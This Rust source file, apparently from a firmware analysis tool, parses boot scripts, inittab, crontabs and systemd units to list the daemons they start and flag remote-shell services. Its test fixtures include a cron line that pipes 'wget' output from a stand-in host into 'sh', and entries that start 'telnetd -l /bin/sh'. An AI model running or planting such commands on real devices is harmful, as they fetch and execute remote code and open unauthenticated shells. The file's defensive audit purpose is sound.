//! Services started at boot, and what each starts: SysV `rc?.d`/`rcS.d` links, Buildroot's
//! `init.d/S??name` scripts (run in order by `rcS`), OpenWrt `rc.d` links, and `inittab`
//! entries. Each service lists the known daemons its script or entry runs.

use serde::Serialize;

/// Daemons worth naming, by executable name: remote shells, web servers, miners, updaters.
const DAEMONS: &[&str] = &[
    "telnetd",
    "utelnetd",
    "dropbear",
    "sshd",
    "lighttpd",
    "httpd",
    "uhttpd",
    "nginx",
    "cgminer",
    "bmminer",
    "btminer",
    "bosminer",
    "ntpd",
    "avahi-daemon",
    "update-daemon",
    "daemonc",
    "tftpd",
    "ftpd",
    "vsftpd",
    "inetd",
];

/// Daemons that give a remote shell.
pub const REMOTE_SHELLS: &[&str] = &["telnetd", "utelnetd", "dropbear", "sshd"];

/// One thing started at boot.
#[derive(Debug, Clone, Serialize)]
pub struct Service {
    /// The root file system it belongs to.
    pub rootfs: String,
    /// Its name (`dropbear`, `S50lighttpd`, the inittab id…).
    pub name: String,
    /// How it is started: `rc.d link`, `init.d S-script`, `inittab`.
    pub how: String,
    /// The file that starts it (the script, or inittab).
    pub file: String,
    /// Byte offset of the line that runs the first daemon named, when known.
    pub offset: Option<u64>,
    /// That line.
    pub line: Option<String>,
    /// Known daemons it runs.
    pub daemons: Vec<String>,
}

impl Service {
    /// A service started by the shell script `file` (content `script`), named `name`.
    pub(crate) fn from_script(file: &str, name: &str, how: &str, script: &[u8]) -> Service {
        let (daemons, first) = daemons_in(script);
        Service {
            rootfs: super::accounts::rootfs_of(file),
            name: name.to_owned(),
            how: how.to_owned(),
            file: file.to_owned(),
            offset: first.as_ref().map(|f| f.0),
            line: first.map(|f| f.1),
            daemons,
        }
    }

    /// The remote-shell daemons it runs.
    pub fn remote_shells(&self) -> impl Iterator<Item = &str> {
        self.daemons
            .iter()
            .map(String::as_str)
            .filter(|d| REMOTE_SHELLS.contains(d))
    }
}

/// Whether `path` is a boot link (`etc/rcS.d/S50dropbear`, `etc/rc.d/S50dropbear`): returns
/// the directory holding `init.d` and the link name.
pub(crate) fn boot_link(path: &str) -> Option<(&str, &str)> {
    let (dir, name) = path.rsplit_once('/')?;
    let (etc, rc) = dir.rsplit_once('/').unwrap_or(("", dir));
    let is_rc = rc == "rc.d" || (rc.starts_with("rc") && rc.ends_with(".d") && rc.len() == 5);
    (is_rc && name.starts_with('S')).then_some((etc, name))
}

/// Whether `path` is a Buildroot-style boot script (`etc/init.d/S50dropbear`).
pub(crate) fn s_script(path: &str) -> bool {
    let Some((dir, name)) = path.rsplit_once('/') else {
        return false;
    };
    dir.ends_with("etc/init.d")
        && name.len() > 3
        && name.starts_with('S')
        && name.as_bytes()[1].is_ascii_digit()
        && name.as_bytes()[2].is_ascii_digit()
}

/// Whether `path` is an inittab.
pub(crate) fn is_inittab(path: &str) -> bool {
    path == "etc/inittab" || path.ends_with("/etc/inittab")
}

/// The first 2,000 lines of `bytes`, each with the byte offset it starts at.
fn lines(bytes: &[u8]) -> impl Iterator<Item = (u64, std::borrow::Cow<'_, str>)> {
    let mut offset = 0u64;
    bytes.split_inclusive(|b| *b == b'\n').take(2000).map(move |raw| {
        let at = offset;
        offset += raw.len() as u64;
        (at, String::from_utf8_lossy(raw))
    })
}

/// The known daemons a shell script runs (comments ignored), with the first such line.
pub(crate) fn daemons_in(script: &[u8]) -> (Vec<String>, Option<(u64, String)>) {
    let mut found: Vec<String> = Vec::new();
    let mut first = None;
    for (at, text) in lines(script) {
        let code = text.split('#').next().unwrap_or("");
        for word in code.split(|c: char| c.is_whitespace() || ";&|()`\"'".contains(c)) {
            let exe = word.rsplit('/').next().unwrap_or(word);
            if DAEMONS.contains(&exe) && !found.iter().any(|f| f == exe) {
                // `killall dropbear` in a stop branch does not start it.
                if code.contains("killall") || code.contains("pkill") || code.contains("kill ") {
                    continue;
                }
                found.push(exe.to_owned());
                if first.is_none() {
                    first = Some((at, text.trim().to_owned()));
                }
            }
        }
    }
    (found, first)
}

/// inittab entries (`id:runlevels:action:process`) that run something at boot.
pub(crate) fn inittab(rootfs: &str, path: &str, bytes: &[u8]) -> Vec<Service> {
    let mut out = Vec::new();
    for (at, text) in lines(bytes) {
        let line = text.trim();
        if line.starts_with('#') {
            continue;
        }
        let f: Vec<&str> = line.splitn(4, ':').collect();
        if f.len() < 4 || !["respawn", "once", "sysinit", "wait", "boot", "askfirst"].contains(&f[2]) {
            continue;
        }
        let (daemons, _) = daemons_in(f[3].as_bytes());
        out.push(Service {
            rootfs: rootfs.to_owned(),
            name: if f[0].is_empty() {
                f[3].to_owned()
            } else {
                f[0].to_owned()
            },
            how: format!("inittab {}", f[2]),
            file: path.to_owned(),
            offset: Some(at),
            line: Some(line.to_owned()),
            daemons,
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn boot_links_scripts_and_inittab_are_recognised() {
        assert_eq!(
            boot_link("x/etc/rcS.d/S50dropbear"),
            Some(("x/etc", "S50dropbear"))
        );
        assert_eq!(boot_link("etc/rc.d/S90bosminer"), Some(("etc", "S90bosminer")));
        assert_eq!(boot_link("etc/rc5.d/K20dropbear"), None);
        assert_eq!(boot_link("etc/init.d/S50dropbear"), None);
        assert!(s_script("fs/etc/init.d/S50dropbear"));
        assert!(!s_script("fs/etc/init.d/dropbear"));
        assert!(is_inittab("a/etc/inittab"));
    }

    #[test]
    fn daemons_are_named_from_the_script_not_from_comments_or_stop_branches() {
        let s = b"#!/bin/sh\n# telnetd is disabled\ncase $1 in\n start) /usr/sbin/dropbear -r k ;;\n stop) killall lighttpd ;;\nesac\n";
        let (d, first) = daemons_in(s);
        assert_eq!(d, ["dropbear"]);
        assert_eq!(first.unwrap().1, "start) /usr/sbin/dropbear -r k ;;");
        let t = inittab(
            "",
            "etc/inittab",
            b"::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n#::respawn:/sbin/getty\n",
        );
        assert_eq!(t.len(), 2);
        assert_eq!(t[1].daemons, ["telnetd"]);
        assert_eq!(t[1].how, "inittab respawn");
    }
}

/// Whether `path` is a crontab (`etc/crontab`, `etc/cron.d/*`, `var/spool/cron/crontabs/*`).
pub(crate) fn is_crontab(path: &str) -> bool {
    path.ends_with("etc/crontab") || path.contains("etc/cron.d/") || path.contains("cron/crontabs/")
}

/// Jobs of a crontab: one service per job line, named after the command it runs.
pub(crate) fn cron(path: &str, bytes: &[u8]) -> Vec<Service> {
    let mut out = Vec::new();
    for (at, text) in lines(bytes) {
        let line = text.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let words: Vec<&str> = line.split_whitespace().collect();
        // A variable assignment (SHELL=/bin/sh) is not a job.
        if words.len() < 2 || words[0].contains('=') {
            continue;
        }
        // Five time fields, or one @keyword; /etc/crontab and cron.d add the user.
        let skip = if words[0].starts_with('@') { 1 } else { 5 };
        let skip = skip + usize::from(!path.contains("crontabs/"));
        let Some(cmd) = words.get(skip) else { continue };
        let (daemons, _) = daemons_in(line.as_bytes());
        out.push(Service {
            rootfs: super::accounts::rootfs_of(path),
            name: format!("cron: {}", cmd.rsplit('/').next().unwrap_or(cmd)),
            how: "cron job".into(),
            file: path.to_owned(),
            offset: Some(at),
            line: Some(line.chars().take(200).collect()),
            daemons,
        });
        if out.len() >= 256 {
            break;
        }
    }
    out
}

/// An enabled systemd unit: a link in `*.wants/` (`etc/systemd/system/multi-user.target.wants/
/// dropbear.service`); returns the unit name.
pub(crate) fn systemd_wants(path: &str) -> Option<&str> {
    let (dir, name) = path.rsplit_once('/')?;
    (dir.ends_with(".wants") && dir.contains("systemd/") && name.ends_with(".service")).then_some(name)
}

/// The service a systemd unit file starts (its `ExecStart=` lines).
pub(crate) fn systemd_unit(file: &str, name: &str, unit: &[u8]) -> Service {
    // Prefixes that change how systemd runs it (-, @, +, !) are not part of the command.
    let exec = lines(unit).find_map(|(at, text)| {
        let cmd = text.trim().strip_prefix("ExecStart=")?;
        Some((at, cmd.trim_start_matches(['-', '@', '+', '!']).trim().to_owned()))
    });
    let (daemons, _) = exec
        .as_ref()
        .map_or((Vec::new(), None), |(_, c)| daemons_in(c.as_bytes()));
    Service {
        rootfs: super::accounts::rootfs_of(file),
        name: name.trim_end_matches(".service").to_owned(),
        how: "systemd unit (enabled)".into(),
        file: file.to_owned(),
        offset: exec.as_ref().map(|e| e.0),
        line: exec.map(|e| e.1),
        daemons,
    }
}

#[cfg(test)]
mod boot_tests {
    use super::*;

    #[test]
    fn cron_jobs_and_systemd_units() {
        let tab = b"SHELL=/bin/sh\n# m h dom mon dow command\n*/5 * * * * /usr/bin/telnetd -l /bin/sh\n@reboot wget -O- http://x.example/a | sh\n";
        let jobs = cron("var/spool/cron/crontabs/root", tab);
        let names: Vec<&str> = jobs.iter().map(|j| j.name.as_str()).collect();
        assert_eq!(names, ["cron: telnetd", "cron: wget"]);
        assert_eq!(jobs[0].daemons, ["telnetd"]);
        assert_eq!(jobs[0].offset, Some(40));
        let sys = cron("etc/crontab", b"0 * * * * root /usr/sbin/ntpdate pool.ntp.org\n");
        assert_eq!(sys[0].name, "cron: ntpdate");
        assert!(is_crontab("etc/cron.d/x") && !is_crontab("etc/init.d/cron"));
        assert_eq!(
            systemd_wants("etc/systemd/system/multi-user.target.wants/dropbear.service"),
            Some("dropbear.service")
        );
        assert_eq!(systemd_wants("etc/systemd/system/dropbear.service"), None);
        let u = systemd_unit(
            "lib/systemd/system/dropbear.service",
            "dropbear.service",
            b"[Unit]\nDescription=SSH\n[Service]\nExecStart=-/usr/sbin/dropbear -F -p 2222\n",
        );
        assert_eq!(
            (u.name.as_str(), u.daemons.as_slice(), u.line.as_deref()),
            (
                "dropbear",
                &["dropbear".to_owned()][..],
                Some("/usr/sbin/dropbear -F -p 2222")
            )
        );
    }
}
